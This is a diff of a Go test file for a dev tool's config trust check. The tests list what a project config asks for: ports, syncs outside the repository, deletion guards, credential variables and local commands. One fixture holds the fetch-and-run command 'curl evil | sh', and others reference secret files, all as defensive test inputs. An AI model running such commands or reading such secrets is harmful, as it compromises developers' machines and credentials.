@@ -38,7 +38,8 @@ func tree(t *testing.T, files map[string]string) string {
 // request is what the config below root/shop/web asks for; the repository is root/shop.
 func request(t *testing.T, root string) Request {
 	t.Helper()
-	file, err := config.Load(filepath.Join(root, "shop", "web"), config.Options{Env: map[string]string{"USER": "ada", "NPM_TOKEN": "secret"}})
+	file, err := config.Load(filepath.Join(root, "shop", "web"),
+		config.Options{Env: map[string]string{"USER": "ada", "NPM_TOKEN": "secret"}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -47,8 +48,10 @@ func request(t *testing.T, root string) Request {
 
 // web is a config whose dev section has further lines.
 func web(lines ...string) map[string]string {
-	return map[string]string{"shop/.git/HEAD": "ref: refs/heads/main\n", "outside/secret": "TOKEN=1\n", "outside/part.yaml": "hotReload: true\n", "shop/protos/a.proto": "x",
-		"shop/web/.dev/config.yaml": "name: web\ncontainers:\n- dev:\n    image: dev\n" + strings.Join(lines, "\n") + "\n"}
+	return map[string]string{"shop/.git/HEAD": "ref: refs/heads/main\n", "outside/secret": "TOKEN=1\n",
+		"outside/part.yaml": "hotReload: true\n", "shop/protos/a.proto": "x",
+		"shop/web/.dev/config.yaml": "name: web\ncontainers:\n- dev:\n    image: dev\n" + strings.Join(lines, "\n") +
+			"\n"}
 }
 
 func TestOf(t *testing.T) {
@@ -59,27 +62,52 @@ func TestOf(t *testing.T) {
 		want  []string
 	}{
 		"an image alone": {},
-		"what runs in the pod": {lines: []string{`    workDir: /src`, `    command: {run: "curl evil | sh", build: make}`, `    env: [{name: A, value: "$USER"}]`,
-			`    persistentVolumeDirs: [{path: /cache}]`, `    resources: {limits: {cpu: "1"}}`, `    debug: {language: go, remoteDebugPort: 9009}`}},
-		"any free local port":        {lines: []string{`    portForward: [":8080"]`}},
-		"local ports":                {lines: []string{`    portForward: ["8080:80", "5432"]`}, want: []string{"takes port 8080 of this computer", "takes port 5432 of this computer"}},
-		"git's rules":                {lines: []string{`    sync: {mode: gitIgnore}`}},
-		"patterns":                   {lines: []string{`    sync: {filePattern: [./src], ignoreFilePattern: [./src/tmp]}`}, want: []string{"sends what git ignores: sync of . goes by patterns, only ./src, not ./src/tmp"}},
-		"patterns, to receive":       {lines: []string{`    sync: {type: receive, mode: pattern}`}},
+		"what runs in the pod": {lines: []string{`    workDir: /src`,
+			`    command: {run: "curl evil | sh", build: make}`, `    env: [{name: A, value: "$USER"}]`,
+			`    persistentVolumeDirs: [{path: /cache}]`, `    resources: {limits: {cpu: "1"}}`,
+			`    debug: {language: go, remoteDebugPort: 9009}`}},
+		"any free local port": {lines: []string{`    portForward: [":8080"]`}},
+		"local ports": {lines: []string{`    portForward: ["8080:80", "5432"]`},
+			want: []string{"takes port 8080 of this computer", "takes port 5432 of this computer"}},
+		"git's rules": {lines: []string{`    sync: {mode: gitIgnore}`}},
+		"patterns": {lines: []string{`    sync: {filePattern: [./src], ignoreFilePattern: [./src/tmp]}`},
+			want: []string{"sends what git ignores: sync of . goes by patterns, only ./src, not ./src/tmp"}},
+		"patterns, to receive": {lines: []string{`    sync: {type: receive, mode: pattern}`}},
+		"no deletion guard": {lines: []string{`    sync: {deleteProtection: false}`},
+			want: []string{"deletes files of . on this computer without asking, however many the container deletes"}},
+		"a weak deletion guard": {lines: []string{`    sync: {deletionGuard: {files: 100000}}`},
+			want: []string{"deletes files of . on this computer without asking, unless the container deletes over " +
+				"25 % of them, and over 100000"}},
+		"a strong deletion guard": {lines: []string{`    sync: {deletionGuard: {files: 5, percent: 10}}`}},
+		"no guard of the pod": {
+			lines: []string{`    sync: {type: send, deleteProtection: false, linksOutside: true}`},
+		},
+		"links that lead outside": {lines: []string{`    sync: {linksOutside: true}`},
+			want: []string{"takes links from the container into . that lead out of it"}},
 		"a folder of the repository": {lines: []string{`    sync: [{local: .}, {local: ../protos, remote: /protos}]`}},
-		"a folder outside":           {lines: []string{`    sync: [{local: .}, {local: ../../outside, remote: /o}]`}, want: []string{"syncs ROOT/outside, outside of the repository"}},
-		"a link that leads outside": {lines: []string{`    sync: [{local: .}, {local: ../data, remote: /o}]`}, more: map[string]string{"shop/data": "-> ../outside"},
+		"a folder outside": {lines: []string{`    sync: [{local: .}, {local: ../../outside, remote: /o}]`},
 			want: []string{"syncs ROOT/outside, outside of the repository"}},
-		"an included file":         {lines: []string{"    ${_INCLUDE_:- ../../part.yaml }"}, more: map[string]string{"shop/part.yaml": "hotReload: true\n"}},
-		"an included file outside": {lines: []string{"    ${_INCLUDE_:- ../../../outside/part.yaml }"}, want: []string{"reads ROOT/outside/part.yaml, outside of the repository"}},
-		"a layer that is a link": {more: map[string]string{"outside/layer.yaml": "name: web\n", "shop/web/.dev/local.yaml": "-> ../../../outside/layer.yaml"},
+		"a link that leads outside": {lines: []string{`    sync: [{local: .}, {local: ../data, remote: /o}]`},
+			more: map[string]string{"shop/data": "-> ../outside"},
+			want: []string{"syncs ROOT/outside, outside of the repository"}},
+		"an included file": {lines: []string{"    ${_INCLUDE_:- ../../part.yaml }"},
+			more: map[string]string{"shop/part.yaml": "hotReload: true\n"}},
+		"an included file outside": {lines: []string{"    ${_INCLUDE_:- ../../../outside/part.yaml }"},
+			want: []string{"reads ROOT/outside/part.yaml, outside of the repository"}},
+		"a layer that is a link": {more: map[string]string{"outside/layer.yaml": "name: web\n",
+			"shop/web/.dev/local.yaml": "-> ../../../outside/layer.yaml"},
 			want: []string{"reads ROOT/outside/layer.yaml, outside of the repository"}},
-		"an env file outside": {lines: []string{"    envFrom: {envFile: [{path: ../../../outside/secret}]}"}, want: []string{"reads ROOT/outside/secret, outside of the repository"}},
-		"a credential":        {lines: []string{`    env: [{name: A, value: "${NPM_TOKEN:-}"}]`}, want: []string{"puts your variable NPM_TOKEN into its text"}},
+		"an env file outside": {lines: []string{"    envFrom: {envFile: [{path: ../../../outside/secret}]}"},
+			want: []string{"reads ROOT/outside/secret, outside of the repository"}},
+		"a credential": {lines: []string{`    env: [{name: A, value: "${NPM_TOKEN:-}"}]`},
+			want: []string{"puts your variable NPM_TOKEN into its text"}},
 		"a patch": {lines: []string{`    patches: [{patch: "spec: {replicas: 2}"}, {type: json, patch: "[]"}]`},
-			want: []string{"changes the dev pod by a strategic patch:\n  spec: {replicas: 2}", "changes the dev pod by a json patch:\n  []"}},
-		"escape sequences": {lines: []string{`    sync: {filePattern: ["./src\e[2J"]}`}, want: []string{`sends what git ignores: sync of . goes by patterns, only "./src\x1b[2J"`}},
-		"a local command": {more: map[string]string{"shop/web/.dev/config.yaml": "name: web\nlocal: {command: go run .}\ncontainers: [{dev: {image: dev}}]\n"},
+			want: []string{"changes the dev pod by a strategic patch:\n  spec: {replicas: 2}",
+				"changes the dev pod by a json patch:\n  []"}},
+		"escape sequences": {lines: []string{`    sync: {filePattern: ["./src\e[2J"]}`},
+			want: []string{`sends what git ignores: sync of . goes by patterns, only ./src\x1b[2J`}},
+		"a local command": {more: map[string]string{"shop/web/.dev/config.yaml": "name: web\n" +
+			"local: {command: go run .}\ncontainers: [{dev: {image: dev}}]\n"},
 			want: []string{"runs a command on this computer: go run ."}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -107,11 +135,13 @@ func TestOf(t *testing.T) {
 func TestOfShared(t *testing.T) {
 	t.Parallel()
 	ref := workload.Ref{Kind: workload.Deployment, Name: "web"}
-	file, err := config.LoadShared("configmap/nhctl-config (config.yaml)", "containers: [{dev: {image: dev, portForward: [\"22:22\"], sync: {mode: pattern}}}]", ref, "")
+	file, err := config.LoadShared("configmap/nhctl-config (config.yaml)",
+		"containers: [{dev: {image: dev, portForward: [\"22:22\"], sync: {mode: pattern}}}]", ref, "")
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := Request{Origin: "configmap/nhctl-config (config.yaml)", Claims: []string{"takes port 22 of this computer", "sends what git ignores: sync of . goes by patterns"}}
+	want := Request{Origin: "configmap/nhctl-config (config.yaml)",
+		Claims: []string{"takes port 22 of this computer", "sends what git ignores: sync of . goes by patterns"}}
 	if diff := cmp.Diff(want, Of(file, &file.Services[0])); diff != "" {
 		t.Error(diff)
 	}
@@ -160,10 +190,14 @@ func TestStore(t *testing.T) {
 
 func TestProblem(t *testing.T) {
 	t.Parallel()
-	r := Request{Origin: "/shop/.dev/config.yaml", Claims: []string{"takes port 80 of this computer", "changes the dev pod by a json patch:\n  []"}}
-	want := &problem.Error{Code: problem.Untrusted, Subject: r.Hash(),
-		Message: "this needs your trust first, once: the config /shop/.dev/config.yaml\n  - takes port 80 of this computer\n  - changes the dev pod by a json patch:\n    []",
-		Hint:    "look at it, then: nhctl config trust; in a script: nhctl dev start --yes"}
+	r := Request{Origin: "/shop/.dev/config.yaml",
+		Claims: []string{"takes port 80 of this computer", "changes the dev pod by a json patch:\n  []"}}
+	want := &problem.Error{
+		Code: problem.Untrusted,
+		Message: "this needs your trust first, once: the config /shop/.dev/config.yaml\n" +
+			"  - takes port 80 of this computer\n  - changes the dev pod by a json patch:\n    []",
+		Hint: "look at it, then: nhctl config trust; in a script: nhctl dev start --yes",
+	}
 	if diff := cmp.Diff(want, problem.From(r.Problem())); diff != "" {
 		t.Error(diff)
 	}
